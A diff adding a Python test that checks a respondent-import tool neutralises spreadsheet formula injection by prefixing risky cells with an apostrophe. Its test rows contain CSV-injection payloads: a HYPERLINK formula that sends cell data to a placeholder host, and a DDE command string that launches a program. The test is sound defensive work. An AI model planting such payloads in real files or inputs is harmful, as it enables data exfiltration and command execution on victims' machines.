@@ -199,3 +199,25 @@ def test_no_personal_data_in_logs_or_audit(vault, study, tmp_path, caplog):
     for value in PERSONAL + ["A001", "C001"]:
         assert value not in logged
         assert value not in audited
+
+
+def test_formula_cells_are_kept_as_text_a_spreadsheet_will_not_run(vault, study, tmp_path):
+    """Issue 10 item 5 (OWASP CSV injection): a cell a spreadsheet would run is stored with a quote
+    in front, so the access export, the server and any later spreadsheet show it as text; numbers
+    and phones starting with + or - are left alone."""
+    rows = ['A001;Mme;=HYPERLINK("http://x.example/?"&A1,"Cliquez");Hélène;54;75011;-Paris;+33 6 12 34 56 78;;'
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "A002;M.;Dupont;José;71;01000;Bourg;06 11 22 33 44;;\t=1+1",
+            "A003;M.;Martin;Paul;38;69003;Lyon;;;-3"]
+    report = import_sample(vault, study, write_csv(tmp_path, [HEADER, *rows]), now=NOW)
+    assert (report.imported, report.neutralised) == (3, 4)
+    assert report.summary().endswith("; 4 cellules commençant par = + - @ gardées comme texte "
+                                     "(apostrophe ajoutée : un tableur ne les exécutera pas)")
+    repo = RespondentRepository(vault)
+    first, second, third = (repo.by_sample_id(study, f"A00{i}") for i in (1, 2, 3))
+    assert first.last_name == '\'=HYPERLINK("http://x.example/?"&A1,"Cliquez")'
+    assert first.town == "'-Paris" and first.phone == "0612345678"  # the phone normalised as usual
+    assert first.attributes == {"Commentaire": "'@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert second.attributes == {"Commentaire": "'=1+1"}
+    assert third.attributes == {"Commentaire": "-3"}
+    assert audit.entries(vault.conn)[-1].counts["neutralised"] == 4
